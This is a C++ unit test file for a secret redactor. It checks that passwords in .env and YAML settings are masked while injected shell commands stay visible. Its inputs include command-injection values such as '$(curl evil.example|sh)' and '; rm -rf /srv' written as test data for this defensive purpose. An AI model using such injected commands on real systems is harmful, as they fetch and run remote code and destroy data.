// SPDX-License-Identifier: Apache-2.0
// Values in configuration files, where a value may contain characters that are special to a shell.
#include "tests/security/redactor_fixture.hpp"

#include <array>

namespace countersign::security {
namespace {

void expect_setting_hidden(std::string_view text, TextKind kind, std::initializer_list<std::string_view> parts) {
    const auto redacted = redactor().text(text, kind);
    for (const auto part : parts) EXPECT_FALSE(contains(redacted, part)) << text << "\n => " << redacted;
    EXPECT_EQ(redactor().text(redacted, kind), redacted);
    EXPECT_EQ(redactor().text(redacted), redacted) << "a second look that knows less changes nothing";
}

TEST(RedactorSettings, I6_NoTailOfAPasswordIsVisibleInAConfigurationFile) {
    for (const std::string_view mark : {"&", ";", "(", ")", "<", ">", "|", "`", "$(", "&&", "||", "><"}) {
        const auto value = "abcd1" + std::string{mark} + "efgh2";
        for (const std::string_view pattern :
             {"DB_PASSWORD=§\n", "export DB_PASSWORD=§\n", "db_password = §\n", "DB_PASSWORD=\"§\"\n",
              "DB_PASSWORD='§' # why\n", "A=1\nDB_PASSWORD=§\nB=2\n", "+DB_PASSWORD=§\n", "API_TOKEN=§"}) {
            std::string text{pattern};
            text.replace(text.find("§"), std::string_view{"§"}.size(), value);
            expect_setting_hidden(text, TextKind::settings, {"abcd1", "efgh2"});
        }
        for (const std::string_view pattern :
             {"password: §\n", "db:\n  password: '§'\n", "- password: \"§\"\n", "\"password\": \"§\"\n"}) {
            std::string text{pattern};
            text.replace(text.find("§"), std::string_view{"§"}.size(), value);
            expect_setting_hidden(text, TextKind::yaml, {"abcd1", "efgh2"});
        }
    }
}

TEST(RedactorSettings, I9_ShellMetacharactersStayVisibleBetweenTheMasks) {
    const auto redacted = redactor().text("DB_PASSWORD=abcd1;efgh2\n", TextKind::settings);
    EXPECT_TRUE(contains(redacted, "»;«")) << redacted;
}

TEST(RedactorSettings, I9_ACommandWithArgumentsIsNotMaskedAsAValue) {
    for (const std::string_view text : {"TOKEN=abc; rm -rf /srv\n", "TOKEN=abc rm -rf /srv\n", "TOKEN=a&rm -rf /srv\n",
                                        "TOKEN=$(curl evil.example|sh) x\n"}) {
        const auto redacted = redactor().text(text, TextKind::settings);
        EXPECT_TRUE(contains(redacted, "rm -rf /srv") || contains(redacted, "curl evil.example|sh")) << redacted;
    }
    // A script of a pipeline in YAML is a command.
    const auto script = redactor().text("run: |\n  TOKEN=abc;evilcmd\n", TextKind::yaml);
    EXPECT_TRUE(contains(script, ";evilcmd")) << script;
}

void expect_visible_in_settings(std::string_view text, std::string_view command) {
    const auto redacted = redactor().text(text, TextKind::settings);
    EXPECT_TRUE(contains(redacted, command)) << text << "\n => " << redacted;
    EXPECT_EQ(redactor().text(redacted, TextKind::settings), redacted);
}

TEST(RedactorSettings, I9_ASubstitutionInASettingStaysVisible) {
    for (const std::string_view command : {"$(curl evil.example | sh)", "`curl evil.example | sh`", "$(evilcmd)",
                                           "`evilcmd`", "$(a $(evilcmd) b)", "${ evilcmd; }"}) {
        for (const std::string_view pattern :
             {"TOKEN=\"abcd1§\"\n", "TOKEN=\"§\"\n", "export TOKEN=\"abcd1§efgh2\" # why\n", "token = \"abcd1§\"\n",
              "token = abcd1§\n", "TOKEN=\"\"§\"\"\n", "TOKEN='abcd1'§'x'\n", "A=1\nTOKEN=\"abcd1§\"\nB=2\n",
              "A='\nTOKEN='abcd1§'\n", "cat <<X\nTOKEN='abcd1§'\nX\n"}) {
            std::string text{pattern};
            text.replace(text.find("§"), std::string_view{"§"}.size(), command);
            expect_visible_in_settings(text, command);
        }
    }
    expect_visible_in_settings("TOKEN=abcd1$(evilcmd)\n", "$(evilcmd)");
    expect_visible_in_settings("TOKEN=\"${abcd1:-$(evilcmd)}\"\n", "$(evilcmd)");
    expect_visible_in_settings("TOKEN=abcd1<(evilcmd)\n", "<(evilcmd)");
    expect_visible_in_settings("TOKEN==(evilcmd)\n", "=(evilcmd)");
    // The substitution continues on the next line.
    expect_visible_in_settings("TOKEN=\"abcd1$(evilcmd \"a\"\n)\"\n", "$(evilcmd ");
    expect_visible_in_settings("TOKEN=\"abcd1`/tmp/evil \"a\"\n`\"\n", "`/tmp/evil ");
}

TEST(RedactorSettings, I9_ThePathOfAProgramInASettingStaysVisible) {
    for (const std::string_view text :
         {"TOKEN=abcd1;/tmp/evil\n", "TOKEN=abcd1&/tmp/evil\n", "TOKEN=abcd1&&/tmp/evil\n", "TOKEN=abcd1|/tmp/evil\n",
          "TOKEN=;/tmp/evil\n", "TOKEN=abcd1;\"/tmp/evil\"\n", "token = abcd1;/tmp/evil\n",
          "TOKEN=\"abcd1\";/tmp/evil;\"x\"\n", "A=\"\nTOKEN=\"abcd1;/tmp/evil\"\n", "TOKEN=abcd1>/tmp/evil\n",
          "TOKEN=abcd1;(/tmp/evil)\n", "TOKEN=abcd1;x|/tmp/evil\n"}) {
        expect_visible_in_settings(text, "/tmp/evil");
    }
    expect_visible_in_settings("TOKEN=abcd1;./x\n", ";./x");
    expect_visible_in_settings("TOKEN=abcd1;bin/x\n", ";bin/x");
    const auto redacted = redactor().text("TOKEN=abcd1;/tmp/evil\n", TextKind::settings);
    EXPECT_FALSE(contains(redacted, "abcd1")) << redacted;
}

TEST(RedactorSettings, I9_AKnownCommandOrOneWithArgumentsStaysVisibleInASetting) {
    for (const std::string_view command : {"reboot", "sh", "re\\boot", "'reboot'", "$EVIL", "python3.12"}) {
        expect_visible_in_settings("TOKEN=abcd1;" + std::string{command} + "\n", command);
        expect_visible_in_settings("TOKEN=abcd1|" + std::string{command} + "\n", command);
    }
    expect_visible_in_settings("token = abcd1;evilcmd now\n", "evilcmd now");
    expect_visible_in_settings("token = abcd1 & evilcmd now\n", "evilcmd now");
    expect_visible_in_settings("TOKEN=abcd1\tevilcmd\n", "evilcmd");
    expect_visible_in_settings("TOKEN=abcd1;evilcmd\tnow\n", "evilcmd\tnow");
}

TEST(RedactorSettings, I6_AQuotedSettingThatNoShellRunsIsMaskedWhole) {
    for (const std::string_view text :
         {"TOKEN='abcd1$(efgh2)'\n", "TOKEN='abcd1`efgh2`'\n", "TOKEN='abcd1;efgh2/x'\n", "TOKEN=\"abcd1;efgh2/x\"\n",
          "TOKEN=\"abcd1|efgh2/x\"\n", "# `use` this\nTOKEN=\"abcd1`efgh2\"\n"}) {
        expect_setting_hidden(text, TextKind::settings, {"abcd1", "efgh2"});
    }
}

TEST(RedactorSettings, I9_InACommandTheTailStaysVisible) {
    for (const std::string_view text : {"DB_PASSWORD=abc&evilcmd", "DB_PASSWORD=abc;evilcmd", "DB_PASSWORD=abc|evilcmd",
                                        "DB_PASSWORD=\"abc$(evilcmd)\"", "DB_PASSWORD=\"abc`evilcmd`\""}) {
        EXPECT_TRUE(contains(redactor().text(text), "evilcmd")) << redactor().text(text);
    }
}

TEST(RedactorSettings, I6_BracketsInABareValueDoNotRevealItsStart) {
    for (const std::string_view text : {"DB_PASSWORD=hunter2(def)<x>|y", "export DB_PASSWORD=hunter2(def)>x",
                                        "DB_PASSWORD=hunter2()<x", "tool --password=hunter2(def)<x>"}) {
        EXPECT_FALSE(contains(redactor().text(text), "hunter2")) << redactor().text(text);
    }
    // Source code, and text that fish and PowerShell would execute.
    for (const std::string_view text : {"key=hash2(def)", "password=hash2(def);", "password = hash2(def)<x",
                                        "$password=hash2(def)<x", "password=hash2(def) < x", "password=hash(def)<x"}) {
        EXPECT_EQ(redactor().text(text), text);
    }
    EXPECT_TRUE(contains(redactor().text("DB_PASSWORD=hunter2(evilcmd)<x>|evilcmd"), "(evilcmd)<x>|evilcmd"));
}

TEST(RedactorSettings, I6_AQuotedValueIsMaskedWholeIfNoShellRunsItsContent) {
    for (const std::string_view text :
         {"PASSWORD='abcd1`efgh2'", "PASSWORD=\"abcd1`efgh2\"", "password = 'abcd1`efgh2'",
          "{\"password\": \"abcd1`efgh2\"}", "PASSWORD='abcd1`efgh2`'", "export PASSWORD='abcd1`efgh2`'",
          "A=1 PASSWORD='abcd1$(efgh2)' npm start"}) {
        expect_setting_hidden(text, TextKind::any, {"abcd1", "efgh2"});
    }
}

TEST(RedactorSettings, I9_AQuotedValueThatIsEvaluatedTwiceHidesNoCommand) {
    for (const std::string_view text :
         {"eval PASSWORD='`evilcmd`'", "ssh host PASSWORD='$(evilcmd)'", "sh -c PASSWORD='`evilcmd`'",
          "cat <<X\nPASSWORD='`evilcmd`'\nX\n", "sh -c \"\nPASSWORD='`evilcmd`'\n\"", "x; PASSWORD='`evilcmd`'",
          "\"PASSWORD='`evilcmd`'\"", "echo ` PASSWORD=\"`evilcmd`\" `", "PASSWORD=\"$(evilcmd)\"",
          "PASSWORD=\"$(evilcmd\n)\""}) {
        EXPECT_TRUE(contains(redactor().text(text), "evilcmd")) << redactor().text(text);
    }
}

TEST(RedactorSettings, I9_AMaskKeepsTheQuotesOfAJoinedValuePaired) {
    for (const std::string_view text : {"x --token 'abcd1'efgh2|evilcmd 'y' z", "PASSWORD='abcd1'efgh2|evilcmd 'y' z",
                                        "PASSWORD=\"abcd1\"efgh2;evilcmd \"y\"", "mysql -p'abcd1'efgh2|evilcmd 'y'"}) {
        const auto redacted = redactor().text(text);
        EXPECT_TRUE(contains(redacted, "evilcmd")) << redacted;
        EXPECT_FALSE(contains(redacted, "abcd1")) << redacted;
        EXPECT_FALSE(contains(redacted, "efgh2")) << redacted;
    }
}

TEST(RedactorSettings, OtherSettingsReferencesAndCommentsAreUnchanged) {
    for (const std::string_view text :
         {"HOST=db&x\nPORT=5432\n", "# DB_PASSWORD goes here\n", "DB_PASSWORD=${DB_PASSWORD}\n", "DB_PASSWORD=\n",
          "TOKEN_URL=https://example.com/a?b=c&d=e\n", "password_file = /run/secrets/db\n", "DB_PASSWORD=changeme\n",
          "[password]\nmin = 8\n"}) {
        EXPECT_EQ(redactor().text(text, TextKind::settings), text);
    }
    for (const std::string_view text :
         {"password: ${{ secrets.DB }}\n", "secretName: app-tls\n", "password: *anchor\n", "token: |\n  x\n"}) {
        EXPECT_EQ(redactor().text(text, TextKind::yaml), text);
    }
}

TEST(RedactorSettings, TheKindOfAFileIsRecognisedByItsName) {
    for (const std::string_view path : {".env", "/srv/app/.env", ".env.local", "prod.env", "app.INI", "a/b.toml",
                                        "my.cnf", "app.properties", "x.tfvars", "C:\\app\\.env", ".aws/credentials"}) {
        EXPECT_EQ(kind_of_file(path), TextKind::settings) << path;
    }
    for (const std::string_view path : {"a.yml", "deploy/b.YAML"})
        EXPECT_EQ(kind_of_file(path), TextKind::yaml) << path;
    for (const std::string_view path : {"", "deploy.sh", "Makefile", "Dockerfile", ".envrc", ".bashrc", "a.py", "env",
                                        "x.service", ".env/run.sh", "cron.d/job", "a.json"}) {
        EXPECT_EQ(kind_of_file(path), TextKind::any) << path;
    }
}

TEST(RedactorSettings, I6_OnlyTheTextOfAFileIsReadAsItsKind) {
    static constexpr auto names = std::to_array<std::string_view>({"content"});
    const json::Value call{
        json::Object{{"content", "DB_PASSWORD=abcd1&efgh2\n"}, {"command", "DB_PASSWORD=abcd1&efgh2"}}};
    const auto shown = redactor().value(call, {.kind = TextKind::settings, .names = names});
    EXPECT_FALSE(contains(*shown.object()->find("content")->string(), "efgh2"));
    EXPECT_TRUE(contains(*shown.object()->find("command")->string(), "efgh2"));
}

}  // namespace
}  // namespace countersign::security
